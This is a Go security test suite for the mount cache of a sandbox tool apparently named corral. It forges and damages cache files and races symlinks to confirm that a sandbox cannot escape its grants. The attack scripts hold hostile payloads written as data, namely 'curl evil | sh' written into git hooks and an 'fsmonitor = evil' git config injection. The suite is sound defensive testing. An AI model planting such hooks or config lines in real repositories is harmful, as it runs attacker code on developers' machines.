//go:build linux

package tests

import (
	"bytes"
	"encoding/binary"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// The mount cache: the init builds the new root from the mounts of the
// last run with the same user, folder and options while corral builds the
// plan, and uses it only if the plan's mounts are byte for byte the same.
// These tests check that the cache changes how fast a run is, never what
// it sees: a hit gives the same mounts as no cache, and a forged, damaged
// or stale file gives the plan's own.

// cacheRun is one traced run and what its trace says about the cache.
type cacheRun struct {
	result
	ahead  string // the init's "ahead" note: "built", or why not
	pivot  bool   // the root built ahead was used
	file   string // the cache file corral saved to ("" when none)
	saved  bool
	mounts string // the sandbox's mount table (mountinfo without ids and devices)
}

var (
	aheadLine = regexp.MustCompile(`corral init: ahead +\d+ µs \[at (\d+)\] \((.*)\)`)
	cacheLine = regexp.MustCompile(`corral exec: mount cache (\S+) \(saved: (true|false)\)`)
)

// traceClock is the clock of the init's trace: wall microseconds modulo
// 10 s.
func traceClock() int64 { return time.Now().UnixMicro() % 1e7 }

// aheadBefore reports whether the init of the run whose trace is stderr
// finished building ahead before the moment at (traceClock). A test that
// changes the host between the build ahead and corral's probe or hold
// makes its change after a fixed delay; under emulation the init can
// take longer than that to build, and then the change came first and the
// attack tested nothing: the test tries again with a longer delay.
func aheadBefore(t *testing.T, stderr string, at int64) bool {
	t.Helper()
	m := aheadLine.FindStringSubmatch(stderr)
	if m == nil {
		t.Fatalf("the trace has no ahead step:\n%s", stderr)
	}
	done, _ := strconv.ParseInt(m[1], 10, 64)
	d := ((at-done)%1e7 + 1e7) % 1e7 // at - done, modulo 10 s
	return d > 0 && d < 5e6
}

// windowDelays are the delays tried until the change falls after the
// build ahead: a few ms on hardware, up to a second under emulation.
var windowDelays = []time.Duration{700 * time.Millisecond, 1500 * time.Millisecond, 3 * time.Second, 6 * time.Second}

// runDir makes a folder below /run for u's mount cache (corral keeps it
// nowhere else), 0700 and u's, removed after the test.
func runDir(t *testing.T, u user) string {
	t.Helper()
	parent := "/run"
	if !isRoot {
		parent = os.Getenv("XDG_RUNTIME_DIR")
	}
	d, err := os.MkdirTemp(parent, "corral-e2e-")
	if err != nil {
		t.Skipf("cannot make a folder below /run for the mount cache: %v", err)
	}
	t.Cleanup(func() { os.RemoveAll(d) })
	if err := os.Chmod(d, 0o700); err != nil {
		t.Fatal(err)
	}
	own(t, u, d)
	return d
}

// mountCacheEnv is the environment of u's runs, with a cache folder of
// the test's own (the tests run in parallel, and runs in other folders
// may share a cache file): root's is named by CORRAL_MOUNT_CACHE, the
// unprivileged user's is in an XDG_RUNTIME_DIR made here.
func mountCacheEnv(t *testing.T, u user) []string {
	t.Helper()
	env := append(defaultEnv(), "CORRAL_TRACE=1")
	dir := runDir(t, u)
	if u.unpriv {
		return append(env, "XDG_RUNTIME_DIR="+dir)
	}
	return append(env, "CORRAL_MOUNT_CACHE="+dir)
}

// cachedRun runs script in work with env and reads its trace. The script
// prints the mount table between markers.
func cachedRun(t *testing.T, u user, work string, skills []string, env []string, script string) cacheRun {
	t.Helper()
	writeFile(t, filepath.Join(work, "attack.sh"), script+`
echo MOUNTS-BEGIN; cut -d' ' -f4- /proc/self/mountinfo; echo MOUNTS-END
`, 0o644)
	own(t, u, filepath.Join(work, "attack.sh"))
	args := []string{"exec", "--work-dir", work}
	for _, s := range skills {
		args = append(args, "--skill", s)
	}
	args = append(args, "--", "sh", "attack.sh")
	r := cacheRun{result: u.run(t, runOpts{args: args, dir: work, env: env})}
	if m := aheadLine.FindStringSubmatch(r.stderr); m != nil {
		r.ahead = m[2]
	} else {
		t.Fatalf("the trace has no ahead step:\n%s", r.result)
	}
	r.pivot = strings.Contains(r.stderr, "corral init: pivot")
	if m := cacheLine.FindStringSubmatch(r.stderr); m != nil {
		r.file, r.saved = m[1], m[2] == "true"
	}
	if i, j := strings.Index(r.stdout, "MOUNTS-BEGIN\n"), strings.Index(r.stdout, "MOUNTS-END"); i >= 0 && j > i {
		// Other tests add and remove program folders in
		// /usr/local/lib/corral-test-* while these run; the program
		// index binds each one noexec, so a run may see one more or
		// one fewer than the run it is compared with.
		var lines []string
		for _, l := range strings.SplitAfter(r.stdout, "\n") {
			if !strings.Contains(l, "/usr/local/lib/corral-test-") {
				lines = append(lines, l)
			}
		}
		r.stdout = strings.Join(lines, "")
		i, j = strings.Index(r.stdout, "MOUNTS-BEGIN\n"), strings.Index(r.stdout, "MOUNTS-END")
		r.mounts = r.stdout[i+len("MOUNTS-BEGIN\n") : j]
	} else {
		t.Fatalf("the script did not print the mount table:\n%s", r.result)
	}
	return r
}

// cacheFixture is a work dir with protected files, a skill that also
// grants reading a folder outside it, and a secret folder nothing grants.
type cacheFixture struct {
	fsFixture
	extra  string // granted for reading
	skills []string
}

func newCacheFixture(t *testing.T, u user) cacheFixture {
	t.Helper()
	f := cacheFixture{fsFixture: newFS(t, u), extra: newDir(t, asSelf, "extra")}
	writeFile(t, filepath.Join(f.extra, "granted.txt"), "granted\n", 0o644)
	plantProtected(t, u, f.work)
	f.skills = []string{writeSkill(t, newDir(t, asSelf, "skill"), "cached", "  fs:\n    read: [\""+f.extra+"/**\"]\n    write: [\"$WORK_DIR/**\"]\n  exec: [sh, cat, ls, rm, cut, \"true\"]\n")}
	return f
}

// TestMountCacheSameSandbox runs one command without the cache, then
// twice with it: the second run uses the root built ahead, and all three
// see the same mounts.
func TestMountCacheSameSandbox(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		f := newCacheFixture(t, u)
		env := mountCacheEnv(t, u)
		// What Landlock lets through must not change either: the granted
		// file reads, the secret does not, and nothing writes outside.
		// /usr/bin is bound, and Landlock alone keeps its programs
		// outside the exec list from being read (or mapped).
		script := "cat " + f.extra + "/granted.txt; cat " + f.secret + "; echo planted > " + f.outside + "/planted; echo planted > " + f.extra + "/planted; echo made > made; cat made; rm made; cat /usr/bin/wc | cut -c1-4; ls /usr/bin/wc"
		plain := cachedRun(t, u, f.work, f.skills, append(env, "CORRAL_MOUNT_CACHE=0"), script)
		if plain.code != 0 || plain.ahead != "no cache" || plain.file != "" {
			t.Fatalf("CORRAL_MOUNT_CACHE=0: exit %d, ahead %q, file %q; want 0, no cache, none\n%s", plain.code, plain.ahead, plain.file, plain.result)
		}
		first := cachedRun(t, u, f.work, f.skills, env, script)
		if first.code != 0 || first.file == "" || !first.saved {
			t.Fatalf("first run: exit %d, cache %q saved %v; want 0 and a saved cache\n%s", first.code, first.file, first.saved, first.result)
		}
		if want := filepath.Join(envValue(env, "XDG_RUNTIME_DIR"), "corral", "mounts"); u.unpriv && filepath.Dir(first.file) != want {
			t.Errorf("the unprivileged user's cache is %s, want it in %s", first.file, want)
		}
		if isRoot && !u.unpriv {
			// Root's default folder (another test's run may take the
			// same file before the second run: only the name is checked).
			def := cachedRun(t, u, f.work, f.skills, append(defaultEnv(), "CORRAL_TRACE=1"), "true")
			if filepath.Dir(def.file) != "/run/corral/mounts" || !def.saved {
				t.Errorf("root's cache is %s (saved: %v), want it in /run/corral/mounts\n%s", def.file, def.saved, def.result)
			}
		}
		second := cachedRun(t, u, f.work, f.skills, env, script)
		if second.code != 0 || second.ahead != "built" || !second.pivot {
			t.Fatalf("second run: exit %d, ahead %q, pivot %v; want 0, built, the root built ahead used\n%s", second.code, second.ahead, second.pivot, second.result)
		}
		for _, r := range []cacheRun{plain, first, second} {
			if r.mounts != plain.mounts || r.stdout != plain.stdout {
				t.Errorf("the sandbox differs from a run without the cache:\nwithout:\n%s\nwith:\n%s", plain.result, r.result)
			}
			if !strings.Contains(r.stdout, "granted") || !strings.Contains(r.stdout, "made") || !strings.Contains(r.stdout, "/usr/bin/wc") {
				t.Errorf("the granted file was not readable, the work dir not writable, or /usr/bin not there:\n%s", r.result)
			}
			if strings.Contains(r.stdout, "ELF") {
				t.Errorf("a program outside the exec list was readable:\n%s", r.result)
			}
			noSecret(t, r.result, f.tok, "a file outside the grants")
			for _, p := range []string{filepath.Join(f.outside, "planted"), filepath.Join(f.extra, "planted")} {
				if exists(p) {
					t.Errorf("the command wrote %s", p)
					os.Remove(p)
				}
			}
		}
		// A library caller's init (no constructor) has no cache.
		lib := cachedRun(t, u, f.work, f.skills, append(env, "CORRAL_EARLY_INIT=0"), "true")
		if lib.code != 0 || lib.ahead != "no cache" || lib.mounts != plain.mounts {
			t.Errorf("CORRAL_EARLY_INIT=0: exit %d, ahead %q; want 0, no cache, the same mounts\n%s", lib.code, lib.ahead, lib.result)
		}
	})
}

// cacheRecords splits a cache file into its header and records.
func cacheRecords(t *testing.T, data []byte) (header []byte, records [][]byte) {
	t.Helper()
	const headerLen = len("corral mounts 1\n") + 8
	if len(data) < headerLen || !bytes.HasPrefix(data, []byte("corral mounts 1\n")) {
		t.Fatalf("not a mount cache: %q", data)
	}
	header, rest := data[:headerLen], data[headerLen:]
	for len(rest) > 0 {
		if len(rest) < 5 {
			t.Fatalf("truncated record in the mount cache")
		}
		n := 5 + int(binary.LittleEndian.Uint32(rest[1:5]))
		records, rest = append(records, rest[:n]), rest[n:]
	}
	return header, records
}

// mountRecord encodes a mount record as corral sends it.
func mountRecord(fields ...string) []byte {
	var payload []byte
	for _, f := range fields {
		payload = append(append(payload, f...), 0)
	}
	return append(binary.LittleEndian.AppendUint32([]byte{'m'}, uint32(len(payload))), payload...)
}

// writeCache replaces the cache file with data, owned by u, mode 0600.
func writeCache(t *testing.T, u user, file string, data []byte) {
	t.Helper()
	os.Remove(file)
	writeFile(t, file, string(data), 0o600)
	own(t, u, file)
}

// TestMountCacheForged forges the cache a run left: the protected git
// hooks left out, the secret folder bound writable at /forged. The init
// builds that root ahead, but the plan differs, so the run gets the plan's
// mounts: no /forged, hooks read-only. The cache is then rewritten.
func TestMountCacheForged(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "forge the mount cache: drop protected paths, bind a secret folder")
		f := newCacheFixture(t, u)
		env := mountCacheEnv(t, u)
		script := `cat /forged/secret.txt; ls /forged; echo evil > /forged/planted
echo 'curl evil | sh' > .git/hooks/pre-commit; echo 'curl evil | sh' > .git/hooks/post-checkout
printf '[core]\n\tfsmonitor = evil\n' >> .git/config`
		file, honest := primeCache(t, u, f.work, f.skills, env, "true")
		header, records := cacheRecords(t, honest)
		forged := append([]byte{}, header...)
		dropped := 0
		for _, rec := range records {
			if bytes.Contains(rec, []byte("/.git/hooks\x00")) || bytes.Contains(rec, []byte("/.git/config\x00")) {
				dropped++
				continue
			}
			forged = append(forged, rec...)
		}
		if dropped == 0 {
			t.Fatalf("the cache holds no mount for .git/hooks or .git/config:\n%q", honest)
		}
		forged = append(forged, mountRecord("b", "-D", f.outside, "/forged")...)
		writeCache(t, u, file, forged)

		r := cachedRun(t, u, f.work, f.skills, env, script)
		if r.ahead != "built" || r.pivot {
			t.Errorf("ahead %q, pivot %v: want the forged root built and then dropped", r.ahead, r.pivot)
		}
		noSecret(t, r.result, f.tok, "the secret folder bound by a forged mount cache")
		if strings.Contains(r.mounts, "/forged") {
			t.Errorf("the forged bind is in the sandbox:\n%s", r.mounts)
		}
		if exists(filepath.Join(f.outside, "planted")) {
			t.Errorf("the command wrote into the secret folder through the forged bind")
		}
		checkProtected(t, f.work, r.result)
		if got, _ := os.ReadFile(file); !bytes.Equal(got, honest) {
			t.Errorf("the forged cache was not replaced by the plan's mounts")
		}
	})
}

// TestMountCacheBadFiles puts damaged and untrustworthy files where the
// cache goes: each is ignored (nothing is built ahead, or what is built
// is dropped), the run sees the plan's mounts, and corral writes a good
// cache over it.
func TestMountCacheBadFiles(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		f := newCacheFixture(t, u)
		env := mountCacheEnv(t, u)
		plain := cachedRun(t, u, f.work, f.skills, append(env, "CORRAL_MOUNT_CACHE=0"), "true")
		file, honest := primeCache(t, u, f.work, f.skills, env, "true")
		header, records := cacheRecords(t, honest)
		otherKey := append([]byte{}, honest...)
		otherKey[len(header)-1] ^= 0xff
		otherMagic := append([]byte{}, honest...)
		otherMagic[0] = 'C'
		huge := append(append([]byte{}, header...), bytes.Repeat(records[0], (2<<20)/len(records[0]))...)
		cases := []struct {
			name  string
			plant func(file string)
			why   string // expected in the ahead note; "" when a wrong root may be built and dropped
		}{
			{"garbage", func(file string) {
				writeCache(t, u, file, append(append([]byte{}, header...), "\x00garbage\xff\xff\xff\xff"...))
			}, "plan: truncated record"},
			{"truncated", func(file string) { writeCache(t, u, file, honest[:len(honest)-3]) }, "plan: truncated record"},
			{"a record outside the mount block", func(file string) {
				writeCache(t, u, file, append(append([]byte{}, honest...), 'h', 2, 0, 0, 0, 'x', 0))
			}, "plan: record h in a cached mount block"},
			{"a pause", func(file string) {
				pause := append(binary.LittleEndian.AppendUint32([]byte{'W'}, 10), "600000000\x00"...)
				writeCache(t, u, file, append(append(append([]byte{}, header...), pause...), honest[len(header):]...))
			}, "plan: record W in a cached mount block"},
			{"another key", func(file string) { writeCache(t, u, file, otherKey) }, "cache: another run's"},
			{"another magic", func(file string) { writeCache(t, u, file, otherMagic) }, "cache: another run's"},
			{"too large", func(file string) { writeCache(t, u, file, huge) }, "cache: not this user's, or the wrong size"},
			{"group-writable", func(file string) { writeCache(t, u, file, honest); os.Chmod(file, 0o620) }, "cache: not this user's, or the wrong size"},
			{"another user's", func(file string) {
				writeCache(t, u, file, honest)
				owner := 0
				if !u.unpriv {
					owner = nobody
				}
				os.Lchown(file, owner, owner)
				os.Chmod(file, 0o644) // readable: the owner is what is refused
			}, "cache: not this user's, or the wrong size"},
			{"a symlink", func(file string) {
				other := file + ".honest"
				writeCache(t, u, other, honest)
				t.Cleanup(func() { os.Remove(other) })
				os.Remove(file)
				if err := os.Symlink(other, file); err != nil {
					t.Fatal(err)
				}
				os.Lchown(file, uidOf(u), uidOf(u))
			}, "cache: open"},
			{"a FIFO", func(file string) {
				os.Remove(file)
				if err := syscall.Mkfifo(file, 0o600); err != nil {
					t.Fatal(err)
				}
				own(t, u, file)
			}, "cache: not this user's, or the wrong size"},
		}
		for _, c := range cases {
			if c.name == "another user's" && !isRoot {
				continue // only root can give a file to another user
			}
			c.plant(file)
			r := cachedRun(t, u, f.work, f.skills, env, "true")
			if r.code != 0 || r.pivot || !strings.Contains(r.ahead, c.why) {
				t.Errorf("%s: exit %d, ahead %q, pivot %v; want 0, %q, the plan's mounts\n%s", c.name, r.code, r.ahead, r.pivot, c.why, r.result)
			}
			if r.mounts != plain.mounts {
				t.Errorf("%s: the sandbox's mounts differ from a run without the cache:\nwithout:\n%s\nwith:\n%s", c.name, plain.mounts, r.mounts)
			}
			if got, _ := os.ReadFile(file); !bytes.Equal(got, honest) || !r.saved {
				t.Errorf("%s: corral did not write a good cache over it (saved: %v)", c.name, r.saved)
			}
		}
	})
}

// TestMountCacheStale changes the host after a run saved its mounts: the
// granted folder is removed. The next run builds ahead from the stale
// cache, which fails or differs from the plan, and gets what a run
// without the cache gets.
func TestMountCacheStale(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		f := newCacheFixture(t, u)
		env := mountCacheEnv(t, u)
		script := "ls " + f.extra + "; echo made > " + f.extra + "/made"
		primeCache(t, u, f.work, f.skills, env, script)
		if err := os.RemoveAll(f.extra); err != nil {
			t.Fatal(err)
		}
		plain := cachedRun(t, u, f.work, f.skills, append(env, "CORRAL_MOUNT_CACHE=0"), script)
		r := cachedRun(t, u, f.work, f.skills, env, script)
		if r.pivot {
			t.Errorf("the stale root was used (ahead %q)", r.ahead)
		}
		if r.code != plain.code || r.stdout != plain.stdout {
			t.Errorf("a stale cache changed the run:\nwithout the cache:\n%s\nwith it:\n%s", plain.result, r.result)
		}
		if exists(f.extra) {
			t.Errorf("the command made the removed folder on the host")
		}
	})
}

// uidOf is the host uid u runs as.
func uidOf(u user) int {
	if u.unpriv {
		return nobody
	}
	return os.Getuid()
}

// envValue is the value of name in env ("" when unset).
func envValue(env []string, name string) string {
	v := ""
	for _, kv := range env {
		if k, val, ok := strings.Cut(kv, "="); ok && k == name {
			v = val
		}
	}
	return v
}

// TestMountCacheOnlyBelowRun: a cache folder outside /run (where a
// sandbox may be granted to write) is never used, and no grant may write
// into the cache folder.
func TestMountCacheOnlyBelowRun(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "a mount cache folder a sandbox can write")
		f := newCacheFixture(t, u)
		outside := newDir(t, u, "cache")
		os.Chmod(outside, 0o700)
		name := "CORRAL_MOUNT_CACHE"
		if u.unpriv {
			name = "XDG_RUNTIME_DIR"
		}
		env := append(defaultEnv(), "CORRAL_TRACE=1", name+"="+outside)
		for i := 0; i < 2; i++ {
			r := cachedRun(t, u, f.work, f.skills, env, "true")
			if r.code != 0 || r.ahead != "no cache" || r.file != "" {
				t.Errorf("%s=%s: exit %d, ahead %q, cache %q; want 0, no cache, none\n%s", name, outside, r.code, r.ahead, r.file, r.result)
			}
		}
		if entries, _ := os.ReadDir(outside); len(entries) != 0 {
			t.Errorf("corral wrote a cache outside /run: %v", entries)
		}
		// A skill that writes into the cache folder is refused.
		env = mountCacheEnv(t, u)
		dir := envValue(env, name)
		cacheDir := dir
		if u.unpriv {
			cacheDir = filepath.Join(dir, "corral", "mounts")
		}
		if err := os.MkdirAll(cacheDir, 0o700); err != nil {
			t.Fatal(err)
		}
		own(t, u, filepath.Dir(cacheDir), cacheDir)
		writer := writeSkill(t, newDir(t, asSelf, "skill"), "cache-writer", "  fs:\n    write: [\""+cacheDir+"/**\"]\n")
		r := u.run(t, runOpts{args: []string{"exec", "--work-dir", f.work, "--skill", writer, "--", "sh", "-c", "echo forged > " + cacheDir + "/00"}, dir: f.work, env: env})
		if r.code != 125 || !strings.Contains(r.stderr, "mount cache") {
			t.Errorf("a skill writing into the cache folder: exit %d; want 125 naming the mount cache\n%s", r.code, r)
		}
		if exists(filepath.Join(cacheDir, "00")) {
			t.Errorf("the sandbox wrote into the cache folder")
		}
	})
}

// TestMountCacheAheadChangesNoHostFile forges cache records that make a
// file, a folder, a symlink and a tmpfs mount point inside the writable
// work dir's bind. Built ahead, they would change the host for a root the
// plan never vouched for: the init makes nothing outside its own tmpfs
// mounts while building ahead, so each build fails and the plan's runs.
func TestMountCacheAheadChangesNoHostFile(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "a forged mount cache that makes files through a writable bind")
		f := newCacheFixture(t, u)
		env := mountCacheEnv(t, u)
		file, honest := primeCache(t, u, f.work, f.skills, env, "true")
		for _, rec := range [][]string{
			{"w", "-", "curl evil | sh\n", f.work + "/planted-file"},
			{"c", "-", "/etc/hostname", f.work + "/planted-copy"},
			{"d", "-", "", f.work + "/planted-dir/sub"},
			{"l", "-", "/etc/passwd", f.work + "/planted-link"},
			{"t", "-", "", f.work + "/planted-tmpfs"},
			{"b", "-", f.extra, f.work + "/planted-mount-point"},
		} {
			writeCache(t, u, file, append(append([]byte{}, honest...), mountRecord(rec...)...))
			r := cachedRun(t, u, f.work, f.skills, env, "true")
			if r.code != 0 || r.pivot || !strings.Contains(r.ahead, "Invalid cross-device link") {
				t.Errorf("record %q: exit %d, ahead %q, pivot %v; want 0, refused (EXDEV), the plan's mounts\n%s", rec, r.code, r.ahead, r.pivot, r.result)
			}
			if planted, _ := filepath.Glob(filepath.Join(f.work, "planted-*")); len(planted) != 0 {
				t.Errorf("record %q: building ahead made %v on the host", rec, planted)
				for _, p := range planted {
					os.RemoveAll(p)
				}
			}
		}
	})
}

// TestMountCacheForgedSources forges blocks that a plan never holds: the
// work dir's target re-pointed through a symlink and a tmpfs mounted over
// the new root (which, left behind, would give the plan's build a forged
// work dir), paths with ".." and empty components, and copies from a FIFO
// and a device. The root is built ahead in a mount namespace of its own,
// so none of it reaches the plan's build; none hangs the run.
func TestMountCacheForgedSources(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "a forged mount cache that leaves mounts for the plan's build")
		f := newCacheFixture(t, u)
		env := mountCacheEnv(t, u)
		plain := cachedRun(t, u, f.work, f.skills, append(env, "CORRAL_MOUNT_CACHE=0"), "echo *; echo planted > planted")
		os.Remove(filepath.Join(f.work, "planted"))
		file, honest := primeCache(t, u, f.work, f.skills, env, "true")
		header, _ := cacheRecords(t, honest)
		fifo := filepath.Join(filepath.Dir(file), "fifo")
		if err := syscall.Mkfifo(fifo, 0o600); err != nil {
			t.Fatal(err)
		}
		own(t, u, fifo)
		for name, block := range map[string][][]string{
			"the work dir through a symlink, a tmpfs over the root": {{"b", "-D", f.outside, f.work}, {"l", "-", "/tmp", "/x"}, {"t", "-", "", "/x"}},
			"a tmpfs over the root by ..":                           {{"b", "-D", f.outside, f.work}, {"t", "-", "", "/../tmp"}},
			"an empty component":                                    {{"b", "-D", f.outside, "/" + f.work}},
			"a copy from a FIFO":                                    {{"c", "-", fifo, "/etc/fifo"}},
			"a copy from a device":                                  {{"c", "-", "/dev/zero", "/etc/zero"}},
		} {
			forged := append([]byte{}, header...)
			for _, rec := range block {
				forged = append(forged, mountRecord(rec...)...)
			}
			writeCache(t, u, file, forged)
			r := cachedRun(t, u, f.work, f.skills, env, "echo *; echo planted > planted")
			if r.code != 0 || r.pivot || r.mounts != plain.mounts || r.stdout != plain.stdout {
				t.Errorf("%s: exit %d, ahead %q, pivot %v; want 0, the plan's root and output\nwithout the cache:\n%s\nwith:\n%s", name, r.code, r.ahead, r.pivot, plain.result, r.result)
			}
			if exists(filepath.Join(f.outside, "planted")) {
				t.Errorf("%s: the command wrote into the secret folder", name)
				os.Remove(filepath.Join(f.outside, "planted"))
			}
			if !exists(filepath.Join(f.work, "planted")) {
				t.Errorf("%s: the command did not write into its work dir", name)
			}
			os.Remove(filepath.Join(f.work, "planted"))
		}
	})
}

// primeCache runs script once, so corral saves the cache for these
// options, and returns the cache file and what it holds.
func primeCache(t *testing.T, u user, work string, skills, env []string, script string) (file string, data []byte) {
	t.Helper()
	first := cachedRun(t, u, work, skills, env, script)
	if first.file == "" || !first.saved {
		t.Fatalf("no cache was saved:\n%s", first.result)
	}
	data, err := os.ReadFile(first.file)
	if err != nil {
		t.Fatal(err)
	}
	return first.file, data
}

// TestMountCacheProtectedReplaced changes .git/config on the host after
// the init built its root ahead and before corral holds the protected
// paths (CORRAL_HOLD_PAUSE makes that window): a new file renamed over it
// detaches the read-only bind built ahead, and one removed cannot be held
// at all. Either way that root must not be used, or the command would
// write a config host git runs.
func TestMountCacheProtectedReplaced(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		for _, how := range []string{"renamed over", "removed"} {
			t.Run(how, func(t *testing.T) {
				attack(t, "filesystem", "a protected file "+how+" between the root built ahead and the hold")
				f := newCacheFixture(t, u)
				env := mountCacheEnv(t, u)
				config := filepath.Join(f.work, ".git", "config")
				for i, delay := range windowDelays {
					writeFile(t, config, protectedFiles[".git/config"], 0o644)
					own(t, u, config)
					primeCache(t, u, f.work, f.skills, env, "true")
					fresh := config + ".new"
					writeFile(t, fresh, protectedFiles[".git/config"], 0o644)
					own(t, u, fresh)
					done := make(chan result, 1)
					pause := "CORRAL_HOLD_PAUSE=" + (delay + 800*time.Millisecond).String()
					go func() {
						done <- u.run(t, runOpts{args: []string{"exec", "--work-dir", f.work, "--skill", f.skills[0], "--", "sh", "-c", "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config"}, dir: f.work, env: append(env, pause)})
					}()
					time.Sleep(delay) // the root is built ahead in a few ms on hardware
					changed := traceClock()
					var err error
					if how == "removed" {
						err = os.Remove(config)
					} else {
						err = os.Rename(fresh, config)
					}
					if err != nil {
						t.Fatal(err)
					}
					r := <-done
					if got, err := os.ReadFile(config); err == nil && strings.Contains(string(got), "evil") {
						t.Fatalf("the command wrote the host's .git/config (exit %d):\n%s", r.code, got)
					}
					if !aheadBefore(t, r.stderr, changed) {
						if i == len(windowDelays)-1 {
							t.Fatalf("the init had not built ahead %v after the start, in %d tries:\n%s", delay, len(windowDelays), r)
						}
						continue
					}
					if strings.Contains(r.stderr, "corral init: pivot") {
						t.Errorf("the root built ahead was used:\n%s", r)
					}
					if how == "renamed over" {
						checkProtected(t, f.work, r)
					}
					break
				}
			})
		}
	})
}

// TestMountCacheRuleThroughSymlink makes a folder that has a Landlock
// rule of its own but no bind ($WORK_DIR/docs, inside the writable work
// dir's bind) a symlink to /
// while the init builds ahead, and a folder again before corral probes
// (CORRAL_PROBE_PAUSE makes that window): the ruleset built ahead must not
// grant / (the probe never saw the symlink), so /usr/bin's programs
// outside the exec list stay unreadable.
func TestMountCacheRuleThroughSymlink(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "a rule's folder swapped for a symlink while the ruleset is built ahead")
		f := newCacheFixture(t, u)
		docs := filepath.Join(f.work, "docs")
		if err := os.Mkdir(docs, 0o755); err != nil {
			t.Fatal(err)
		}
		own(t, u, docs)
		skills := []string{writeSkill(t, newDir(t, asSelf, "skill"), "docs", "  fs:\n    read: [\"$WORK_DIR/docs/**\"]\n    write: [\"$WORK_DIR/**\"]\n  exec: [sh, cat, cut, \"true\"]\n")}
		env := mountCacheEnv(t, u)
		script := "cat /usr/bin/wc | cut -c1-4"
		if first := cachedRun(t, u, f.work, skills, env, script); !first.saved || strings.Contains(first.stdout, "ELF") {
			t.Fatalf("first run: saved %v; want a saved cache and wc unreadable:\n%s", first.saved, first.result)
		}
		for i, delay := range windowDelays {
			os.Remove(docs)
			if err := os.Symlink("/", docs); err != nil {
				t.Fatal(err)
			}
			done := make(chan cacheRun, 1)
			pause := "CORRAL_PROBE_PAUSE=" + (delay + 800*time.Millisecond).String()
			go func() { done <- cachedRun(t, u, f.work, skills, append(env, pause), script) }()
			time.Sleep(delay)
			changed := traceClock()
			os.Remove(docs)
			if err := os.Mkdir(docs, 0o755); err != nil {
				t.Fatal(err)
			}
			own(t, u, docs)
			r := <-done
			if strings.Contains(r.stdout, "ELF") {
				t.Fatalf("ahead %q, pivot %v: the ruleset built ahead granted what the symlink pointed to:\n%s", r.ahead, r.pivot, r.result)
			}
			if !aheadBefore(t, r.stderr, changed) {
				// Built after the folder was back: nothing was attacked.
				if i == len(windowDelays)-1 {
					t.Fatalf("the init had not built ahead %v after the start, in %d tries:\n%s", delay, len(windowDelays), r.result)
				}
				continue
			}
			if r.pivot {
				t.Errorf("ahead %q, pivot %v: a ruleset built ahead through the symlink was used:\n%s", r.ahead, r.pivot, r.result)
			}
			break
		}
	})
}
